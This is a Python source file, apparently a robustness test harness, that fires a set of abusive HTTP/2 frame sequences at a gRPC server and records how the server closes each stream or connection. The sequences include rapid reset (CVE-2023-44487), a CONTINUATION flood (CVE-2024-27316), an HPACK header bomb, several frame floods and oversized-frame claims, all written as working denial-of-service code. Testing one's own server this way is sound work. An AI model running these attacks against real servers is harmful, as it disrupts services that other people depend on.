"""What HTTP/2 (RFC 9113) allows to be written and no client of good will writes, against one server, within bounds."""

import re
import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count

from bench.http2 import (
    END_HEADERS,
    END_STREAM,
    LARGEST_FRAME,
    PREFACE,
    FrameReader,
    FrameType,
    write_frame,
    write_headers,
    write_message,
    write_opening,
)
from unrolled.v1.generation_pb2 import GenerateRequest

PATH = "/unrolled.v1.GenerationService/Generate"
SOCKET_LIMIT_S, LISTEN_S = 20.0, 1.0
ERRORS = {
    0: "NO_ERROR",
    1: "PROTOCOL_ERROR",
    2: "INTERNAL_ERROR",
    3: "FLOW_CONTROL_ERROR",
    6: "FRAME_SIZE_ERROR",
    7: "REFUSED_STREAM",
    8: "CANCEL",
    9: "COMPRESSION_ERROR",
    11: "ENHANCE_YOUR_CALM",
}
_SETTINGS_INITIAL_WINDOW_SIZE = 4
_CANCEL = struct.pack(">I", 8)
Attack = Callable[[str], Iterator[bytes]]


def request(max_tokens: int) -> bytes:
    return write_message(GenerateRequest(prompt="a", max_tokens=max_tokens).SerializeToString())


def call(authority: str, stream: int, message: bytes) -> bytes:
    """Return a whole call."""
    return write_frame(FrameType.HEADERS, END_HEADERS, stream, write_headers(authority, PATH)) + write_frame(
        FrameType.DATA, END_STREAM, stream, message
    )


def streams() -> Iterator[int]:
    return count(1, 2)


def rapid_reset(authority: str) -> Iterator[bytes]:
    """Begin calls and take them back at once (CVE-2023-44487)."""
    yield write_opening()
    for stream, _ in zip(streams(), range(20_000), strict=False):
        yield call(authority, stream, request(60_000)) + write_frame(FrameType.RST_STREAM, 0, stream, _CANCEL)


def continue_headers(authority: str) -> Iterator[bytes]:
    """Never end a block of headers (CVE-2024-27316)."""
    yield write_opening()
    yield write_frame(FrameType.HEADERS, 0, 1, write_headers(authority, PATH))
    field = b"\x00" + b"\x07x-field" + b"\x7d" + b"y" * 125
    for _ in range(4_000):
        yield write_frame(FrameType.CONTINUATION, 0, 1, field * 100)


def continue_nothing(authority: str) -> Iterator[bytes]:
    """Never end a block of headers, and add nothing to it."""
    yield write_opening()
    yield write_frame(FrameType.HEADERS, 0, 1, write_headers(authority, PATH))
    for _ in range(50):
        yield write_frame(FrameType.CONTINUATION, 0, 1, b"") * 1_000


def bomb_headers(authority: str) -> Iterator[bytes]:
    """Refer to one large header ten thousand times in a block."""
    yield write_opening()
    large = b"\x40" + b"\x06x-bomb" + b"\x7f\x81\x1e" + b"z" * (127 + 0x81 - 128 + (0x1E << 7))
    for stream, _ in zip(streams(), range(30), strict=False):
        block = write_headers(authority, PATH) + (large if stream == 1 else b"") + b"\xbe" * 10_000
        yield write_frame(FrameType.HEADERS, END_HEADERS | END_STREAM, stream, block)


def close_windows(authority: str) -> Iterator[bytes]:
    """Ask for much and let nothing of it be sent."""
    closed = struct.pack(">HI", _SETTINGS_INITIAL_WINDOW_SIZE, 0)
    yield PREFACE + write_frame(FrameType.SETTINGS, 0, 0, closed)
    for stream, _ in zip(streams(), range(300), strict=False):
        yield call(authority, stream, request(60_000))


def flood_pings(_authority: str) -> Iterator[bytes]:
    yield write_opening()
    for _ in range(25):
        yield write_frame(FrameType.PING, 0, 0, b"12345678") * 2_000


def flood_settings(_authority: str) -> Iterator[bytes]:
    yield write_opening()
    for _ in range(100):
        yield write_frame(FrameType.SETTINGS, 0, 0, b"") * 2_000


def flood_windows(authority: str) -> Iterator[bytes]:
    """Open the window of a call byte by byte."""
    yield write_opening() + call(authority, 1, request(60_000))
    for _ in range(100):
        yield write_frame(FrameType.WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 2_000


def overflow_window(_authority: str) -> Iterator[bytes]:
    yield write_opening()
    yield write_frame(FrameType.WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 3


def claim_frame(_authority: str) -> Iterator[bytes]:
    """Say that a frame has 16 MiB."""
    yield write_opening()
    yield b"\xff\xff\xff" + bytes([FrameType.DATA, 0]) + struct.pack(">I", 1)
    for _ in range(1_000):
        yield b"\0" * LARGEST_FRAME


def claim_message(authority: str) -> Iterator[bytes]:
    """Say that a message has 4 GiB, and send it."""
    yield write_opening()
    yield write_frame(FrameType.HEADERS, END_HEADERS, 1, write_headers(authority, PATH))
    yield write_frame(FrameType.DATA, 0, 1, struct.pack(">BI", 0, 2**32 - 1))
    for _ in range(2_000):
        yield write_frame(FrameType.DATA, 0, 1, b"\0" * LARGEST_FRAME)


def pad_nothing(authority: str) -> Iterator[bytes]:
    """Send frames without content."""
    yield write_opening()
    yield write_frame(FrameType.HEADERS, END_HEADERS, 1, write_headers(authority, PATH))
    for _ in range(100):
        yield write_frame(FrameType.DATA, 0, 1, b"") * 2_000


def unknown_frames(_authority: str) -> Iterator[bytes]:
    yield write_opening()
    for _ in range(100):
        yield (b"\0\0\x08" + bytes([0xEE, 0]) + struct.pack(">I", 0) + b"whatever") * 2_000


def garbage(_authority: str) -> Iterator[bytes]:
    yield b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 100


ATTACKS: dict[str, Attack] = {
    "rapid reset": rapid_reset,
    "CONTINUATION flood": continue_headers,
    "empty CONTINUATION flood": continue_nothing,
    "header bomb": bomb_headers,
    "windows of 0": close_windows,
    "PING flood": flood_pings,
    "SETTINGS flood": flood_settings,
    "WINDOW_UPDATE flood": flood_windows,
    "window overflow": overflow_window,
    "frame of 16 MiB": claim_frame,
    "message of 4 GiB": claim_message,
    "empty DATA flood": pad_nothing,
    "unknown frames": unknown_frames,
    "HTTP/1.1": garbage,
}


def attack(address: str, name: str, *, reads: bool = False, wanted: str = "") -> str:
    """Make an attack; return how the server ended it, or that it did not.

    Args:
        address: ``host:port`` of the server.
        name: one of ``ATTACKS``.
        reads: whether what the server says is read meanwhile.
        wanted: a regular expression of how it should end, for which there is time enough; without one nothing in
            particular is waited for.
    """
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=SOCKET_LIMIT_S) as link:
        reader, ends = FrameReader(), list[str]()
        try:
            for piece in ATTACKS[name](address):
                link.settimeout(SOCKET_LIMIT_S)
                link.sendall(piece)
                if reads:
                    link.settimeout(0.0)
                    with suppress(BlockingIOError):
                        ends += _read_ends(reader, link.recv(1 << 16))
        except ConnectionError:
            ends.append("closed")
        except TimeoutError:
            ends.append("took no more")
        if not (wanted and re.search(wanted, ", ".join(ends))):
            ends += _listen(link, reader, wanted)
    return ", ".join(dict.fromkeys(ends)) or "took all"


def _listen(link: socket.socket, reader: FrameReader, wanted: str) -> Iterator[str]:
    """Yield how the server ends what was sent, until that is as wanted or has taken too long."""
    limit_s = SOCKET_LIMIT_S if wanted else LISTEN_S
    deadline = time.monotonic() + limit_s
    link.settimeout(limit_s)
    while time.monotonic() < deadline:
        try:
            data = link.recv(1 << 16)
        except TimeoutError:
            return
        except ConnectionError:
            data = b""
        ends = _read_ends(reader, data) if data else ["closed"]
        yield from ends
        if not data or (wanted and any(re.search(wanted, end) for end in ends)):
            return


def _read_ends(reader: FrameReader, data: bytes) -> list[str]:
    """Return what ends a stream or the connection in what the server said."""
    found = []
    for frame in reader.feed(data):
        if frame.kind == FrameType.GOAWAY:
            code = int.from_bytes(frame.payload[4:8])
            found.append(f"GOAWAY {ERRORS.get(code, code)} {frame.payload[8:].decode(errors='replace')}".strip())
        elif frame.kind == FrameType.RST_STREAM:
            code = int.from_bytes(frame.payload)
            found.append(f"RST_STREAM {ERRORS.get(code, code)}")
    return found
